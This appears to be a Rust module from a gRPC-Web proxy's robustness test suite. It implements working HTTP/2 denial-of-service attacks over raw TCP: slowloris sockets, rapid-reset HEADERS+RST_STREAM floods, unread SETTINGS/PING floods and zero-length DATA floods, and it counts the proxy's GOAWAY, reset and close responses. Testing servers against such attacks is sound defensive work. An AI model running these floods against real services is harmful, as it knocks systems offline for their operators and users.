//! Attacks written frame by frame on plain TCP sockets, where a well-behaved HTTP/2
//! library would refuse to misbehave: silent and half-preface sockets (slowloris),
//! HEADERS + RST_STREAM floods, SETTINGS and PING floods whose acks are never read, and
//! zero-length DATA floods.

use std::collections::BTreeMap;
use std::net::SocketAddr;
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::{Arc, Mutex};
use std::time::Duration;

use anyhow::{Context as _, bail};
use grpcweb_interop::pb;
use grpcweb_protocol::framing::{FrameKind, encode_frame};
use prost::Message as _;
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::TcpStream;
use tokio::net::tcp::{OwnedReadHalf, OwnedWriteHalf};
use tokio::task::JoinSet;
use tokio::time::Instant;

use super::Context;

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const GOAWAY: u8 = 7;
const END_STREAM: u8 = 1;
const ACK: u8 = 1;
const END_HEADERS: u8 = 4;
/// RST_STREAM's error code CANCEL.
const CANCEL: u32 = 8;
/// Largest frame payload read back (the default SETTINGS_MAX_FRAME_SIZE is 16 KiB).
const MAX_READ_FRAME: usize = 1 << 24;

/// Sockets opened per second by [`slowloris`], and at most in all.
const SLOWLORIS_RATE: u64 = 25;
const SLOWLORIS_MAX: u64 = 400;
/// Connections of the flood attacks at once, and at most in all (a closed one is
/// replaced, as an attacker would).
const FLOOD_CONNECTIONS: usize = 4;
const FLOOD_MAX_CONNECTIONS: u64 = 1000;
/// Streams a flood connection opens at most (ids stay far below 2^31).
const FLOOD_MAX_STREAMS: u32 = 400_000;
/// Streams per write of [`rapid_reset`]; frames per write of the other floods.
const BATCH: u32 = 100;

/// What the flood connections saw, added up. Frames count as written once the socket
/// took them: a proxy that closes the connection may not have read them all.
#[derive(Debug, Default)]
struct Seen {
    connections: AtomicU64,
    streams: AtomicU64,
    frames: AtomicU64,
    /// GOAWAY frames by error code.
    goaway: Mutex<BTreeMap<String, u64>>,
    resets: AtomicU64,
    closed: AtomicU64,
    /// How long the flood lasted: until the deadline, or until the connection cap.
    lasted_ms: AtomicU64,
}

impl Seen {
    fn get(n: &AtomicU64) -> u64 {
        n.load(Ordering::Relaxed)
    }

    fn summary(&self) -> String {
        let goaway = self.goaway.lock().map(|g| g.clone()).unwrap_or_default();
        let goaway = if goaway.is_empty() {
            "no GOAWAY".to_owned()
        } else {
            let codes: Vec<String> = goaway.iter().map(|(c, n)| format!("{n} {c}")).collect();
            format!("GOAWAY ({})", codes.join(", "))
        };
        format!(
            "{} connections in {:.1} s; the proxy answered with {goaway} and {} RST_STREAM \
             frames and closed {} connections",
            Self::get(&self.connections),
            Self::get(&self.lasted_ms) as f64 / 1000.0,
            Self::get(&self.resets),
            Self::get(&self.closed)
        )
    }
}

/// Opens [`SLOWLORIS_RATE`] sockets a second (at most [`SLOWLORIS_MAX`]): the even ones
/// send nothing, the odd ones only `PRI * HTTP/2.0\r\n`. Each waits for the proxy to close
/// it; none sends another byte.
pub(super) async fn slowloris(ctx: &Context) -> anyhow::Result<String> {
    let started = Instant::now();
    let mut sockets = JoinSet::new();
    let mut ticker = tokio::time::interval(Duration::from_secs(1) / SLOWLORIS_RATE as u32);
    let mut opened = 0;
    while Instant::now() < ctx.until && opened < SLOWLORIS_MAX {
        ticker.tick().await;
        let (target, until, half) = (ctx.target, ctx.until, opened % 2 == 1);
        opened += 1;
        sockets.spawn(async move {
            let lived = tokio::time::timeout_at(until, async {
                let mut tcp = TcpStream::connect(target).await?;
                let opened = Instant::now();
                if half {
                    tcp.write_all(b"PRI * HTTP/2.0\r\n").await?;
                }
                let mut buf = [0u8; 1024];
                // Whatever the proxy sends (a GOAWAY, a 408), read until it closes.
                while tcp.read(&mut buf).await? > 0 {}
                anyhow::Ok(opened.elapsed())
            })
            .await;
            match lived {
                Ok(Ok(lived)) => Some(lived),
                _ => None,
            }
        });
    }
    tokio::time::sleep_until(ctx.until).await;
    let mut lifetimes = Vec::new();
    while let Some(result) = sockets.join_next().await {
        if let Ok(Some(lived)) = result {
            lifetimes.push(lived);
        }
    }
    lifetimes.sort_unstable();
    let shortest = lifetimes.first().map_or_else(String::new, |d| {
        format!(" (the first after {:.1} s open)", d.as_secs_f64())
    });
    Ok(format!(
        "{opened} sockets in {:.0} s ({SLOWLORIS_RATE}/s, half silent, half sending only \
         `PRI * HTTP/2.0\\r\\n`); the proxy closed {}{shortest}",
        started.elapsed().as_secs_f64(),
        lifetimes.len()
    ))
}

/// HEADERS (a gRPC-Web `UnaryCall`) followed at once by RST_STREAM, [`BATCH`] streams
/// per write; every other batch sends the request message too and resets the streams
/// only after the proxy had a moment to forward them to the backend.
pub(super) async fn rapid_reset(ctx: &Context) -> anyhow::Result<String> {
    let seen = Arc::new(Seen::default());
    flood(ctx, &seen, |mut w, until, seen| async move {
        let headers = request_headers("/grpc.testing.TestService/UnaryCall");
        let body = encode_frame(
            FrameKind::Data,
            &pb::SimpleRequest::default().encode_to_vec(),
        );
        let mut id = 1u32;
        let mut round = 0u64;
        while Instant::now() < until && id < FLOOD_MAX_STREAMS {
            let first = id;
            let forward = round % 2 == 1;
            let mut out = Vec::new();
            for _ in 0..BATCH {
                out.extend(frame(HEADERS, END_HEADERS, id, &headers));
                if forward {
                    out.extend(frame(DATA, END_STREAM, id, &body));
                } else {
                    out.extend(frame(RST_STREAM, 0, id, &CANCEL.to_be_bytes()));
                }
                id += 2;
            }
            write(&mut w, &out, until).await?;
            if forward {
                tokio::time::sleep(Duration::from_millis(1)).await;
                let mut resets = Vec::new();
                for id in (first..id).step_by(2) {
                    resets.extend(frame(RST_STREAM, 0, id, &CANCEL.to_be_bytes()));
                }
                write(&mut w, &resets, until).await?;
            }
            seen.streams.fetch_add(u64::from(BATCH), Ordering::Relaxed);
            round += 1;
        }
        anyhow::Ok(())
    })
    .await;
    Ok(format!(
        "{} streams opened and reset over {}",
        Seen::get(&seen.streams),
        seen.summary()
    ))
}

/// SETTINGS (empty) and PING frames, [`BATCH`] of each per write, never reading the
/// acks.
pub(super) async fn settings_ping(ctx: &Context) -> anyhow::Result<String> {
    let seen = Arc::new(Seen::default());
    flood_unread(ctx, &seen).await;
    Ok(format!(
        "{} SETTINGS and PING frames written, acks never read, over {}",
        Seen::get(&seen.frames),
        seen.summary()
    ))
}

/// Opens [`BATCH`] gRPC-Web `UnaryCall` streams per connection, then sends zero-length
/// DATA frames on them round-robin, [`BATCH`] per write, never ending a stream.
pub(super) async fn zero_data(ctx: &Context) -> anyhow::Result<String> {
    let seen = Arc::new(Seen::default());
    flood(ctx, &seen, |mut w, until, seen| async move {
        let headers = request_headers("/grpc.testing.TestService/UnaryCall");
        let mut out = Vec::new();
        for i in 0..BATCH {
            out.extend(frame(HEADERS, END_HEADERS, 1 + 2 * i, &headers));
        }
        write(&mut w, &out, until).await?;
        seen.streams.fetch_add(u64::from(BATCH), Ordering::Relaxed);
        let mut batch = Vec::new();
        for i in 0..BATCH {
            batch.extend(frame(DATA, 0, 1 + 2 * i, &[]));
        }
        while Instant::now() < until {
            write(&mut w, &batch, until).await?;
            seen.frames.fetch_add(u64::from(BATCH), Ordering::Relaxed);
        }
        anyhow::Ok(())
    })
    .await;
    Ok(format!(
        "{} zero-length DATA frames written on {} open streams over {}",
        Seen::get(&seen.frames),
        Seen::get(&seen.streams),
        seen.summary()
    ))
}

/// Keeps [`FLOOD_CONNECTIONS`] connections flooding with `attack` until the deadline,
/// replacing each one that ends (at most [`FLOOD_MAX_CONNECTIONS`] in all), while a
/// task per connection reads and counts what the proxy answers.
async fn flood<F, Fut>(ctx: &Context, seen: &Arc<Seen>, attack: F)
where
    F: Fn(OwnedWriteHalf, Instant, Arc<Seen>) -> Fut + Clone + Send + 'static,
    Fut: std::future::Future<Output = anyhow::Result<()>> + Send,
{
    let started = Instant::now();
    let mut workers = JoinSet::new();
    for _ in 0..FLOOD_CONNECTIONS {
        let (target, until, seen, attack) = (ctx.target, ctx.until, seen.clone(), attack.clone());
        workers.spawn(async move {
            while Instant::now() < until && Seen::get(&seen.connections) < FLOOD_MAX_CONNECTIONS {
                seen.connections.fetch_add(1, Ordering::Relaxed);
                let Ok(Ok((r, w))) = tokio::time::timeout_at(until, open(target)).await else {
                    tokio::time::sleep(Duration::from_millis(50)).await;
                    continue;
                };
                let reader = tokio::spawn(count_replies(r, seen.clone()));
                let _ = attack(w, until, seen.clone()).await;
                // The reader ends when the proxy closes; past the deadline it is dropped.
                let _ = tokio::time::timeout_at(until, reader).await;
            }
        });
    }
    while workers.join_next().await.is_some() {}
    seen.lasted_ms
        .store(started.elapsed().as_millis() as u64, Ordering::Relaxed);
}

/// The SETTINGS and PING flood: like [`flood`], but nothing reads the socket after the
/// handshake, so the proxy's acks pile up.
async fn flood_unread(ctx: &Context, seen: &Arc<Seen>) {
    let started = Instant::now();
    let mut workers = JoinSet::new();
    for _ in 0..FLOOD_CONNECTIONS {
        let (target, until, seen) = (ctx.target, ctx.until, seen.clone());
        workers.spawn(async move {
            let mut batch = Vec::new();
            for i in 0..u64::from(BATCH) {
                batch.extend(frame(SETTINGS, 0, 0, &[]));
                batch.extend(frame(PING, 0, 0, &i.to_be_bytes()));
            }
            while Instant::now() < until && Seen::get(&seen.connections) < FLOOD_MAX_CONNECTIONS {
                seen.connections.fetch_add(1, Ordering::Relaxed);
                let Ok(Ok((_unread, mut w))) = tokio::time::timeout_at(until, open(target)).await
                else {
                    tokio::time::sleep(Duration::from_millis(50)).await;
                    continue;
                };
                loop {
                    match write(&mut w, &batch, until).await {
                        Ok(true) => {
                            seen.frames
                                .fetch_add(2 * u64::from(BATCH), Ordering::Relaxed);
                        }
                        Ok(false) => break,
                        Err(_) => {
                            seen.closed.fetch_add(1, Ordering::Relaxed);
                            break;
                        }
                    }
                }
            }
        });
    }
    while workers.join_next().await.is_some() {}
    seen.lasted_ms
        .store(started.elapsed().as_millis() as u64, Ordering::Relaxed);
}

/// Reads what the proxy sends on a flood connection, counting GOAWAY and RST_STREAM
/// frames and the close.
async fn count_replies(mut r: OwnedReadHalf, seen: Arc<Seen>) {
    loop {
        match read_frame(&mut r).await {
            Ok((GOAWAY, _, payload)) => {
                let code = payload
                    .get(4..8)
                    .and_then(|c| <[u8; 4]>::try_from(c).ok())
                    .map_or(0, u32::from_be_bytes);
                let name = format!("{:?}", h2::Reason::from(code));
                if let Ok(mut g) = seen.goaway.lock() {
                    *g.entry(name).or_default() += 1;
                }
            }
            Ok((RST_STREAM, _, _)) => {
                seen.resets.fetch_add(1, Ordering::Relaxed);
            }
            Ok(_) => {}
            Err(_) => {
                seen.closed.fetch_add(1, Ordering::Relaxed);
                return;
            }
        }
    }
}

/// Writes `bytes` unless the deadline passes first: `Ok(false)` then.
async fn write(w: &mut OwnedWriteHalf, bytes: &[u8], until: Instant) -> anyhow::Result<bool> {
    match tokio::time::timeout_at(until, w.write_all(bytes)).await {
        Ok(result) => result.map(|()| true).context("write"),
        Err(_) => Ok(false),
    }
}

/// A client connection after the HTTP/2 handshake: preface and empty SETTINGS sent, the
/// proxy's SETTINGS read and acknowledged.
async fn open(target: SocketAddr) -> anyhow::Result<(OwnedReadHalf, OwnedWriteHalf)> {
    let tcp = TcpStream::connect(target).await?;
    tcp.set_nodelay(true)?;
    let (mut r, mut w) = tcp.into_split();
    let mut hello = PREFACE.to_vec();
    hello.extend(frame(SETTINGS, 0, 0, &[]));
    w.write_all(&hello).await?;
    loop {
        let (kind, flags, _) = read_frame(&mut r).await?;
        if kind == SETTINGS && flags & ACK == 0 {
            break;
        }
    }
    w.write_all(&frame(SETTINGS, ACK, 0, &[])).await?;
    Ok((r, w))
}

/// One frame: (type, flags, payload).
async fn read_frame(r: &mut OwnedReadHalf) -> anyhow::Result<(u8, u8, Vec<u8>)> {
    let mut head = [0u8; 9];
    r.read_exact(&mut head).await?;
    let len = usize::from(head[0]) << 16 | usize::from(head[1]) << 8 | usize::from(head[2]);
    if len > MAX_READ_FRAME {
        bail!("frame of {len} bytes");
    }
    let mut payload = vec![0u8; len];
    r.read_exact(&mut payload).await?;
    Ok((head[3], head[4], payload))
}

/// An HTTP/2 frame.
fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let len = payload.len() as u32;
    let mut out = Vec::with_capacity(9 + payload.len());
    out.extend(&len.to_be_bytes()[1..]);
    out.push(kind);
    out.push(flags);
    out.extend(&(stream & 0x7fff_ffff).to_be_bytes());
    out.extend(payload);
    out
}

/// An HPACK block for a gRPC-Web POST to `path`: literal fields without indexing, no
/// Huffman coding.
fn request_headers(path: &str) -> Vec<u8> {
    let mut out = Vec::new();
    for (name, value) in [
        (":method", "POST"),
        (":scheme", "http"),
        (":path", path),
        (":authority", "localhost"),
        ("content-type", "application/grpc-web+proto"),
        ("x-grpc-web", "1"),
    ] {
        out.push(0);
        hpack_string(&mut out, name);
        hpack_string(&mut out, value);
    }
    out
}

/// An HPACK string literal (RFC 7541 5.2), not Huffman coded.
fn hpack_string(out: &mut Vec<u8>, s: &str) {
    let mut len = s.len();
    if len < 127 {
        out.push(len as u8);
    } else {
        out.push(127);
        len -= 127;
        while len >= 128 {
            out.push((len % 128) as u8 | 0x80);
            len /= 128;
        }
        out.push(len as u8);
    }
    out.extend(s.as_bytes());
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn encodes_frames_and_hpack_strings() {
        assert_eq!(
            frame(PING, ACK, 0, &[1; 8]),
            [0, 0, 8, 6, 1, 0, 0, 0, 0, 1, 1, 1, 1, 1, 1, 1, 1]
        );
        let mut out = Vec::new();
        hpack_string(&mut out, "ab");
        assert_eq!(out, [2, b'a', b'b']);
        let mut out = Vec::new();
        hpack_string(&mut out, &"x".repeat(1337));
        // RFC 7541 C.1.2: 1337 with a 5-bit prefix; here a 7-bit one: 127, then 1210.
        assert_eq!(&out[..3], [127, 0xba, 0x09]);
    }
}
